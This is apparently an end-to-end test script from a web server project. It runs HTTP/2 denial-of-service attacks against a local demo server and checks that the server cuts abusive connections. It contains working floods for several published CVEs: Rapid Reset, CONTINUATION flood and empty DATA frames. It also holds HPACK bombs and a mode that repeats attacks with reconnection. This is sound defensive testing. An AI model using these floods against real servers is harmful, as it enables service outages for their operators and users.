#!/usr/bin/python3
"""HTTP/2 attacks on roadrunner-demo, for the e2e suite (issue 18).

Usage: h2_attacks.py PORT [--tls] [--for=SECONDS] [CASE...]

Each case opens its own connection (h2c with prior knowledge, or TLS with
ALPN h2), attacks, and prints one line `CASE OUTCOME` (the words of
tests/e2e/h2_frames.py: `goaway CODE LAST`, `rst SID CODE`, `status SID
N`, then `eof` or `timeout`), followed by `ms N`: the milliseconds from the
first attack byte to the server's close (or to the deadline). Floods send a
bounded number of frames while reading what the server answers (so that
its PING and SETTINGS acknowledgements never block it), and stop at the
server's close. The expectations live in tests/e2e/h2_attacks.test.cpp.

With --for=SECONDS (benchmarks/h2_attacks.sh) the one CASE is repeated as
an attacker would for that long: a flood goes on as long as the server
reads it, a new connection follows each cut. It prints `CASE connections
K cut M ms median uncut U`: connections made, the median time to a cut,
and floods the server did not cut before the next round.
"""

import select
import ssl
import struct
import sys
import time

import hpack

sys.dont_write_bytecode = True  # no __pycache__ in the source tree
from h2_frames import (CONTINUATION, DATA, END_HEADERS, END_STREAM,  # noqa
                       HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
                       WINDOW_UPDATE, Conn, CODE, frame, get)

DEADLINE = 5.0


# --for: the end of the attack (floods repeat their frames until then).
ENDLESS = None


def flood(c, data, deadline=DEADLINE):
    """Sends `data` while reading the server's frames (non-blocking);
    returns at EOF, when everything is sent, or at the deadline. With
    --for, sends it again and again until the server closes or the attack
    ends. `data` is bytes, or a function of the round (0, 1, ...) giving
    the bytes of each round (new stream ids)."""
    rounds = 0
    make = data if callable(data) else (lambda _: data)
    data = make(0)
    c.flush()
    c.started = time.monotonic()  # the cut is timed from here
    end = time.monotonic() + deadline
    if ENDLESS is not None:
        end = ENDLESS
    sock = c.sock
    sock.setblocking(False)
    view = memoryview(data)
    pos = 0
    try:
        while not c.eof and time.monotonic() < end:
            if pos == len(view):
                if ENDLESS is None:
                    break
                rounds += 1
                view = memoryview(make(rounds))
                pos = 0
            _, w, _ = select.select([sock], [sock], [], 0.05)
            if w:
                try:
                    pos += sock.send(view[pos:pos + 65536])
                except (ssl.SSLWantWriteError, ssl.SSLWantReadError,
                        BlockingIOError):
                    pass
                except OSError:
                    c.eof = True  # the server closed on us
            read_available(c)
    finally:
        sock.setblocking(True)
    return pos


def read_available(c):
    sock = c.sock
    for _ in range(64):  # bounded: what is there now
        try:
            d = sock.recv(65536)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError,
                BlockingIOError):
            return
        except OSError:
            d = b""
        if not d:
            c.eof = True
            return
        c.buf += d
        while len(c.buf) >= 9:
            n = int.from_bytes(c.buf[0:3], "big")
            if len(c.buf) < 9 + n:
                break
            sid = int.from_bytes(c.buf[5:9], "big") & 0x7FFFFFFF
            f = (c.buf[3], c.buf[4], sid, c.buf[9:9 + n])
            c.buf = c.buf[9 + n:]
            c.handle(*f, True)
        c.out = b""  # no answers (ACKs, WINDOW_UPDATEs) during a flood


def finish(c, started, timeout=DEADLINE, last=True):
    """Reads until EOF (or the deadline); the GOAWAY words, EOF last, and
    the milliseconds since `started`."""
    c.out = b""
    c.until(lambda: c.eof, timeout)
    ms = int((time.monotonic() - getattr(c, "started", started)) * 1000)
    words = [w if last else " ".join(w.split()[:2])
             for w in c.seen if w.startswith("goaway")]
    words.append("eof" if c.eof else "timeout")
    return " ".join(words), ms


def repeat(n, f):
    return b"".join(f(i) for i in range(n))


# -- the attacks ----------------------------------------------------------------
# Each returns (outcome, ms). 30 000 frames: three times the default
# max_overhead_frames, a few hundred KB.

N = 30000


def ping_flood(c):
    t = time.monotonic()
    flood(c, repeat(N, lambda i: frame(PING, 0, 0, struct.pack(">Q", i))))
    return finish(c, t)


def settings_flood(c):
    t = time.monotonic()
    flood(c, repeat(N, lambda i: frame(SETTINGS, 0, 0)))
    return finish(c, t)


def window_update_flood(c):
    t = time.monotonic()
    inc = struct.pack(">I", 1)
    flood(c, repeat(N, lambda i: frame(WINDOW_UPDATE, 0, 0, inc)))
    return finish(c, t)


def priority_flood(c):
    t = time.monotonic()
    p = struct.pack(">IB", 0, 16)
    flood(c, repeat(N, lambda i: frame(PRIORITY, 0, 1, p)))
    return finish(c, t)


def empty_data_flood(c):
    # A request whose body never ends: empty DATA frames (CVE-2019-9518).
    c.headers(1, get("/echo", "POST"), end_stream=False)
    t = time.monotonic()
    flood(c, repeat(N, lambda i: frame(DATA, 0, 1)))
    return finish(c, t)


def tiny_data_flood(c):
    # One byte per DATA frame: 30 000 bytes of body in 30 000 frames.
    c.headers(1, get("/echo", "POST"), end_stream=False)
    t = time.monotonic()
    flood(c, repeat(N, lambda i: frame(DATA, 0, 1, b"x")))
    return finish(c, t)


def continuation_flood(c):
    # A header block that never ends: empty CONTINUATIONs (CVE-2024-28182).
    t = time.monotonic()
    c.send(frame(HEADERS, END_STREAM, 1, c.block(get())))
    flood(c, repeat(N, lambda i: frame(CONTINUATION, 0, 1)))
    return finish(c, t)


def rapid_reset(c):
    # CVE-2023-44487: HEADERS, then RST_STREAM at once, 2 000 streams.
    t = time.monotonic()
    rst = struct.pack(">I", CODE["CANCEL"])
    flood(c, lambda r: repeat(2000, lambda i: (
        frame(HEADERS, END_STREAM | END_HEADERS, 4000 * r + 2 * i + 1,
              c.block(get("/slow?ms=100"))) +
        frame(RST_STREAM, 0, 4000 * r + 2 * i + 1, rst))))
    return finish(c, t)


def bombs(c, per_round, refs):
    """HPACK bombs: a 4 000-byte field enters the dynamic table with a
    first request; then `per_round` blocks (new streams) refer to it
    `refs` times each, one byte per reference."""
    c.headers(1, get(extra=[("x-bomb", "b" * 4000)]))
    c.response(1)
    # The entry is the newest of the dynamic table: index 62 (0xbe).
    t = time.monotonic()
    flood(c, lambda r: repeat(per_round, lambda i: frame(
        HEADERS, END_STREAM | END_HEADERS, 2 * (per_round * r + i) + 3,
        c.block(get()) + b"\xbe" * refs)))
    return t


def hpack_bomb(c):
    # 100 references in 100 bytes: 400 KB decoded, 12 x
    # max_header_list_size.
    return finish(c, bombs(c, 1, 100))


def small_hpack_bombs(c):
    # Blocks just over max_header_list_size (9 references: 36 KB > 32 KiB),
    # each answered with 431, repeated: the 431s are spent credit. Where
    # the cut falls depends on how many streams were open at each read:
    # the last stream id is not part of the outcome.
    return finish(c, bombs(c, 20000, 9), last=False)


def too_many_streams(c):
    # 150 streams at once against max_concurrent_streams = 100, after the
    # SETTINGS were acknowledged: the 50 over the limit are refused one by
    # one (REFUSED_STREAM), the 100 others answered (RFC 9113 5.1.2).
    for i in range(150):
        c.headers(2 * i + 1, get("/slow?ms=300"))
    c.flush()
    t = time.monotonic()
    c.until(lambda: len(c.ended) == 150, 10)
    ms = int((time.monotonic() - t) * 1000)
    refused = sorted(int(w.split()[1]) for w in c.seen
                     if w.startswith("rst") and w.endswith("REFUSED_STREAM"))
    ok = sorted(s for s, st in c.statuses.items() if st == 200)
    other = [w for w in c.seen if w.startswith(("goaway", "rst")) and
             not w.endswith("REFUSED_STREAM")]
    words = "refused %d (%s) ok %d (%s)" % (
        len(refused), span(refused), len(ok), span(ok))
    if other:
        words += " " + " ".join(other)
    return words, ms


def span(ids):
    return "%d-%d" % (ids[0], ids[-1]) if ids else "none"


def keep_alive_limit(c):
    # max_keep_alive_requests=5 (the test's flag): eight requests, four and
    # four. The fifth answer comes with GOAWAY(NO_ERROR, last stream id);
    # streams up to it finish, and the connection closes.
    for sid in (1, 3, 5, 7):
        c.headers(sid, get())
        c.response(sid)
    t = time.monotonic()
    for sid in (9, 11, 13, 15):
        c.headers(sid, get("/slow?ms=100"))
    c.flush()
    c.until(lambda: c.eof, DEADLINE)
    ms = int((time.monotonic() - t) * 1000)
    words = [w for w in c.seen if w.startswith(("goaway", "rst"))]
    ok = sorted(s for s, st in c.statuses.items() if st == 200)
    words.append("ok %d (%s)" % (len(ok), span(ok)))
    words.append("eof" if c.eof else "timeout")
    return " ".join(words), ms


def normal_client(c):
    # Not an attack: 2 000 requests, ten at a time, each answered, with a
    # PING and WINDOW_UPDATEs as browsers send them (the budgets must
    # leave such a client alone).
    t = time.monotonic()
    sid = 1
    for _ in range(200):
        batch = []
        for _ in range(10):
            c.headers(sid, get())
            batch.append(sid)
            sid += 2
        c.raw(PING, 0, 0, b"\0" * 8)
        c.window_update(0, 1000)
        c.until(lambda: all(s in c.ended for s in batch), DEADLINE)
        if c.eof:
            break
    ms = int((time.monotonic() - t) * 1000)
    ok = sum(1 for st in c.statuses.values() if st == 200)
    words = [w for w in c.seen if w.startswith(("goaway", "rst"))]
    words.append("ok %d" % ok)
    words.append("eof" if c.eof else "open")
    return " ".join(words), ms


CASES = {
    "ping_flood": ping_flood,
    "settings_flood": settings_flood,
    "window_update_flood": window_update_flood,
    "priority_flood": priority_flood,
    "empty_data_flood": empty_data_flood,
    "tiny_data_flood": tiny_data_flood,
    "continuation_flood": continuation_flood,
    "rapid_reset": rapid_reset,
    "hpack_bomb": hpack_bomb,
    "small_hpack_bombs": small_hpack_bombs,
    "too_many_streams": too_many_streams,
    "keep_alive_limit": keep_alive_limit,
    "normal_client": normal_client,
}


def attack_for(port, tls, name, seconds):
    """Repeats case `name` for `seconds` (see --for)."""
    global ENDLESS
    ENDLESS = time.monotonic() + seconds
    conns = 0
    cuts = []
    uncut = 0
    while time.monotonic() < ENDLESS:
        try:
            c = Conn(port, tls)
        except (OSError, ssl.SSLError):
            time.sleep(0.01)  # refused (max_clients?): try again shortly
            continue
        conns += 1
        try:
            result, ms = CASES[name](c)
        except (OSError, ssl.SSLError, hpack.HPACKError):
            result, ms = "error", -1
        c.sock.close()
        if result.endswith("eof") and ms >= 0:
            cuts.append(ms)
        else:
            uncut += 1
    cuts.sort()
    median = cuts[len(cuts) // 2] if cuts else -1
    print("%s connections %d cut %d ms median uncut %d" %
          (name, conns, median, uncut), flush=True)


def main():
    args = [a for a in sys.argv[1:] if a != "--tls"]
    tls = "--tls" in sys.argv
    seconds = None
    for a in list(args):
        if a.startswith("--for="):
            seconds = float(a[len("--for="):])
            args.remove(a)
    port = int(args[0])
    names = args[1:] or list(CASES)
    if seconds is not None:
        for name in names:
            attack_for(port, tls, name, seconds)
        return
    for name in names:
        ms = -1
        try:
            c = Conn(port, tls)
            result, ms = CASES[name](c)
            c.sock.close()
        except (OSError, ssl.SSLError, hpack.HPACKError) as e:
            result = "error %s" % type(e).__name__
        print(name, result, flush=True)
        print(name + "_ms", ms, flush=True)


if __name__ == "__main__":
    main()
